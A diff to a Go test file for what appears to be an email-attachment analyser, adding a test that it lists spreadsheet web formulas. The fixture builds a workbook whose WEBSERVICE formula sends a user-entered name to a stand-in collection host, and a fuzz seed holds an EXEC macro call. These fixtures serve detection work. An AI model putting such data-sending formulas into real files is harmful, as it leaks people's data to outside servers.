@@ -68,6 +68,38 @@ func TestXLSBMacroSheet(t *testing.T) {
 	}
 }
 
+// TestXLSBWebFormulas: an .xlsb whose cell calls WEBSERVICE (a future
+// function kept as a name, as LibreOffice reads it: TestLibreOfficeReadsOurWorkbooks)
+// lists what the address is built from, as an .xls does: the formulas and
+// the string cells, shared and inline.
+func TestXLSBWebFormulas(t *testing.T) {
+	wb := f.XLSWorkbook{
+		Sheets: []f.XLSSheet{{Name: "Form", Formulas: []f.XLSFormula{
+			{Rgce: f.Cat(f.PtgName(1), f.Ptg12Ref(2, 0), f.PtgFuncVar(2, 0xFF, false))},
+			{Row: 2, Rgce: f.Cat(f.Ptg12Str("https://collect.example.net/c?u="), f.Ptg12Ref(0, 1), f.PtgConcat)}},
+			Cells: []f.XLSCell{{Row: 0, Col: 2, Text: "Your name"}, {Row: 3, Col: 3, Text: "Inline"}}}},
+		Names:   []f.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
+		Strings: []string{"Your name"}}
+	m := mail("form", "see attached", "form.xlsb", f.XLSB(wb))
+	expand(t, m, Options{})
+	want := "Form!R1C1: =_xlfn.WEBSERVICE(R3C1)\n" +
+		"Form!R3C1: =\"https://collect.example.net/c?u=\"&R1C2\n" +
+		"Form!R1C3 = \"Your name\"\n" +
+		"Form!R4C4 = \"Inline\"\n"
+	if got := string(mustPart(t, m, "2/form.xlsb/web-formulas").Content); got != want {
+		t.Errorf("web-formulas =\n%s\nwant\n%s", got, want)
+	}
+	// Without a web function, no listing.
+	wb.Names = nil
+	m = mail("form", "see attached", "form.xlsb", f.XLSB(wb))
+	expand(t, m, Options{})
+	for _, p := range m.Parts {
+		if strings.HasSuffix(p.Path, "/web-formulas") {
+			t.Errorf("a workbook without web calls has %s", p.Path)
+		}
+	}
+}
+
 func FuzzXLSB(fz *testing.F) {
 	wb := f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "M", Macro: true, Formulas: []f.XLSFormula{{Rgce: f.Cat(f.Ptg12Str("ab"), f.PtgFuncVar(1, f.FtabExec, false))}}}},
 		Names: []f.XLSName{{Builtin: 1, Rgce: f.Ptg12Ref3d(0, 0, 0)}}}
@@ -76,8 +108,9 @@ func FuzzXLSB(fz *testing.F) {
 	fz.Fuzz(func(t *testing.T, b []byte) {
 		env := &formulaEnv{biff12: true}
 		wb := readXLSBWorkbook(b, env)
-		lines, dde, _ := readXLSBSheet(b, env)
-		if len(lines) > maxXLMLines || len(dde) > len(lines) || len(wb.autos) > maxBIFFNames || len(env.xti) > maxBIFFNames {
+		var web webListing
+		lines, dde, _ := readXLSBSheet(b, env, &web, "S", xlsbSharedStrings(b))
+		if len(lines) > maxXLMLines || len(dde) > len(lines) || len(wb.autos) > maxBIFFNames || len(env.xti) > maxBIFFNames || len(web.lines) > maxXLMLines {
 			t.Fatalf("%d lines, %d DDE, %d names, %d references", len(lines), len(dde), len(wb.autos), len(env.xti))
 		}
 		xlsbLink(b)
